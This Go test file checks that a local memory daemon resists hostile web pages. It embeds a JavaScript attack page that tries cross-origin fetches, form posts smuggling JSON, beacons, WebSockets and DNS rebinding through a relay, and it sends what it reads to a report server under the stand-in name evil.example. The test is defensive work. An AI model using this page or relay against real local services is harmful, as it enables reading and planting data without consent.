package api

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

var browser = flag.String("browser", "", "Chromium's path, for TestBrowser")

// attack is a page that tries what a page can on the daemon at the bases of its
// query, and reports what it could read. %s is the address of the report.
const attack = `<!doctype html><meta charset="utf-8"><body><script>
const report = "http://%s", rebind = location.hash === "#rebind", seen = [];
const within = p => Promise.race([p, new Promise((_, no) => setTimeout(no, 3000))]);
async function attempt(name, f) {
  try { seen.push({name, read: String(await within(f()))}); } catch (e) { seen.push({name, read: ""}); }
}
const gone = (el, set) => new Promise(done => { el.onload = () => done(""); el.onerror = () => done(""); set(el); document.body.append(el); });
const body = '{"summary":"planted"}';
const calls = [["GET", "/v1/memories"], ["GET", "/v1/stats"], ["GET", "/metrics"], ["GET", "/docs"], ["GET", "/healthz"], ["HEAD", "/v1/memories"],
  ["POST", "/v1/remember", "application/json"], ["POST", "/v1/remember", "text/plain"], ["POST", "/v1/remember", "application/x-www-form-urlencoded"],
  ["POST", "/v1/rollover", ""], ["POST", "/v1/groom", "text/plain"], ["DELETE", "/v1/keys/kept"], ["PATCH", "/v1/memories/x", "application/json"]];
async function all(base) {
  for (const mode of ["cors", "no-cors", "same-origin"]) for (const [method, path, type] of calls)
    await attempt(mode + " " + method + " " + path + " " + type, async () => {
      const r = await fetch(base + path, {method, mode, credentials: "include", body: type ? body : undefined, headers: type ? {"Content-Type": type} : {}});
      return r.type === "opaque" ? "" : r.status + " " + await r.text();
    });
  await attempt("with a token", async () => { const r = await fetch(base + "/v1/memories", {headers: {Authorization: "Bearer x"}}); return r.status + " " + await r.text(); });
  await attempt("XMLHttpRequest", () => new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = () => done(x.status ? x.status + " " + x.responseText : ""); x.open("GET", base + "/v1/memories"); x.send(); }));
  await attempt("beacon", async () => { navigator.sendBeacon(base + "/v1/remember", body); return ""; });
  await attempt("EventSource", () => new Promise(done => { const e = new EventSource(base + "/v1/memories"); e.onmessage = m => done(m.data); e.onerror = () => { e.close(); done(""); }; }));
  await attempt("WebSocket", () => new Promise(done => { const w = new WebSocket(base.replace("http", "ws") + "/v1/memories"); w.onopen = () => done("opened"); w.onerror = () => done(""); }));
  await attempt("image", () => gone(new Image(), el => el.src = base + "/v1/memories"));
  await attempt("script", () => gone(document.createElement("script"), el => el.src = base + "/v1/memories"));
  await attempt("frame", async () => {
    const f = document.createElement("iframe");
    await gone(f, el => el.src = base + "/docs");
    return f.contentDocument ? f.contentDocument.documentElement.textContent : "";
  });
  for (const enctype of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) await attempt("form " + enctype, async () => {
    const f = document.createElement("iframe");
    f.name = "f" + Math.random();
    document.body.append(f);
    const form = document.createElement("form");
    Object.assign(form, {method: "post", action: base + "/v1/remember", enctype, target: f.name});
    form.innerHTML = "<input name='{\"summary\":\"planted\",\"agent\":\"' value='\"}'>";
    document.body.append(form);
    const loaded = new Promise(done => f.onload = done);
    form.submit();
    await loaded;
    return f.contentDocument ? f.contentDocument.documentElement.textContent.trim() : "";
  });
}
(async () => {
  await attempt("control", async () => (await fetch(report + "/control")).text());
  if (rebind) { await fetch(report + "/flip"); await all(location.origin); }
  else for (const base of decodeURIComponent(location.search.slice(1)).split(",")) await all(base);
  await fetch(report + "/seen", {method: "POST", body: JSON.stringify(seen)});
})();
</script>`

// sight is what a page could read of one attempt.
type sight struct{ Name, Read string }

// site is a hostile page's server: the page's own listener, whose connections go
// to the daemon once it was flipped, as those of a name that was rebound do, and
// another that takes the report.
type site struct {
	page, report net.Listener
	seen         chan []sight

	mu sync.Mutex
	to string // where connections to page go, "" for the page
}

func newSite(t *testing.T, daemon string) *site {
	t.Helper()
	s := &site{page: listener(t), report: listener(t), seen: make(chan []sight, 1)}
	pages := make(chan net.Conn)
	var running sync.WaitGroup
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Connection", "close") // so that what comes next comes anew
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, attack, s.report.Addr())
	})}
	reports := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Access-Control-Allow-Origin", "*")
		switch r.URL.Path {
		case "/control":
			_, _ = io.WriteString(w, "read")
		case "/flip":
			s.mu.Lock()
			s.to = daemon
			s.mu.Unlock()
		case "/seen":
			var seen []sight
			if err := json.NewDecoder(r.Body).Decode(&seen); err == nil {
				s.seen <- seen
			}
		}
	})}
	running.Go(func() { _ = srv.Serve(&handed{s.page, pages}) })
	running.Go(func() { _ = reports.Serve(s.report) })
	running.Go(func() {
		defer close(pages)
		for {
			conn, err := s.page.Accept()
			if err != nil {
				return
			}
			s.mu.Lock()
			to := s.to
			s.mu.Unlock()
			if to == "" {
				pages <- conn
				continue
			}
			running.Go(func() { relay(conn, to) })
		}
	})
	t.Cleanup(func() {
		_ = s.page.Close()
		_ = srv.Close()
		_ = reports.Close()
		running.Wait()
	})
	return s
}

// handed is a listener of the connections that are handed to it.
type handed struct {
	net.Listener
	conns chan net.Conn
}

func (h *handed) Accept() (net.Conn, error) {
	conn, ok := <-h.conns
	if !ok {
		return nil, net.ErrClosed
	}
	return conn, nil
}

// relay passes bytes both ways until either end closes.
func relay(conn net.Conn, to string) {
	defer conn.Close()
	other, err := net.Dial("tcp", to)
	if err != nil {
		return
	}
	defer other.Close()
	done := make(chan struct{})
	go func() {
		defer close(done)
		_, _ = io.Copy(other, conn)
		_ = other.Close()
	}()
	_, _ = io.Copy(conn, other)
	_ = conn.Close()
	<-done
}

// visit has a browser open a page until it has reported.
func (s *site) visit(t *testing.T, url string) []sight {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 100*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, *browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
		"--disable-background-networking", "--host-resolver-rules=MAP evil.example 127.0.0.1", "--user-data-dir="+t.TempDir(), url)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cancel()
		_ = cmd.Wait() // it was killed
	}()
	select {
	case seen := <-s.seen:
		return seen
	case <-ctx.Done():
		t.Fatal("the page did not report")
		return nil
	}
}

// A page in a real browser, on another port of the loopback or under a name that was
// rebound to the daemon, reads nothing and writes nothing, although the daemon asks
// for no token. It needs the flag -browser.
func TestBrowser(t *testing.T) {
	if *browser == "" {
		t.Skip("no -browser is given")
	}
	for name, c := range map[string]struct {
		page    string // of the page's and the daemon's port
		refused bool   // the page may read that it is refused
	}{
		"another port":   {"http://127.0.0.1:%[1]s/?http://127.0.0.1:%[2]s,http://localhost:%[2]s", false},
		"another name":   {"http://evil.example:%[1]s/?http://127.0.0.1:%[2]s,http://evil.example:%[2]s", false},
		"a rebound name": {"http://evil.example:%[1]s/#rebind", true},
	} {
		t.Run(name, func(t *testing.T) {
			d := start(t, func(o *Options) { o.AuthNone, o.Tokens = true, nil }, nil)
			kept := d.long("kept", "a secret plan")
			before := d.rows(t)
			d.log.reset()
			s := newSite(t, d.addr)
			_, page, _ := net.SplitHostPort(s.page.Addr().String())
			_, daemon, _ := net.SplitHostPort(d.addr)
			seen := s.visit(t, fmt.Sprintf(c.page, page, daemon))
			if len(seen) < 40 || !slices.Contains(seen, sight{"control", "read"}) {
				t.Fatalf("the page could do nothing at all: %v", seen)
			}
			for _, one := range seen {
				allowed := one.Read == "" || one.Name == "control" || c.refused && (strings.HasPrefix(one.Read, "403 ") || strings.Contains(one.Read, `"code":"forbidden"`))
				if !allowed || strings.Contains(one.Read, kept.Summary) {
					t.Errorf("%s: the page reads %q", one.Name, one.Read)
				}
			}
			served, refused := d.log.String(), 0
			for line := range strings.Lines(served) {
				var entry struct {
					Msg, Route, Method string
					Status             int
				}
				if err := json.Unmarshal([]byte(line), &entry); err != nil || entry.Msg != "request served" {
					continue
				}
				if refused++; entry.Status != http.StatusForbidden {
					t.Errorf("%s %s is answered %d", entry.Method, entry.Route, entry.Status)
				}
			}
			t.Logf("%d attempts, %d requests refused", len(seen), refused)
			if refused < 10 {
				t.Errorf("only %d requests reached the daemon", refused)
			}
			if after := d.rows(t); after != before {
				t.Errorf("%d rows were written", after-before)
			}
			d.get("/v1/memories/" + kept.ID).want(200)
		})
	}
}
